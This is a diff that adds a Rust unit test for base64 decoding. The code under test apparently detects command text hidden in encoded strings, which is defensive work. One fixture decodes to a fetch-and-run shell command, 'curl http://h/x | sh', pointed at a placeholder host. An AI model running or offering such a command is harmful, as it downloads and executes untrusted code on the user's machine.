@@ -508,6 +508,19 @@ mod tests {
     }
 
     #[test]
+    fn base64_alphabets_and_plausible_text() {
+        // `+` `/` (standard) and `-` `_` (URL-safe) are the same two values.
+        assert!(base64("+/+/+/+/+/+/+/+/").is_some());
+        assert_eq!(base64("+/+/+/+/+/+/+/+/"), base64("-_-_-_-_-_-_-_-_"));
+        assert_eq!(
+            decoded_text("Y3VybCBodHRwOi8vaC94IHwgc2g=").as_deref(),
+            Some("curl http://h/x | sh")
+        );
+        // Digits and dots (a build stamp) decode but are no command text.
+        assert_eq!(decoded_text("MjAyNjExMjktMDAwMS40MjoxNw=="), None);
+    }
+
+    #[test]
     fn base64_is_decoded_up_to_its_maximum_length() {
         // Exactly MAX_BASE64 characters ("ABC" over and over) decode.
         let most = "QUJD".repeat(MAX_BASE64 / 4);
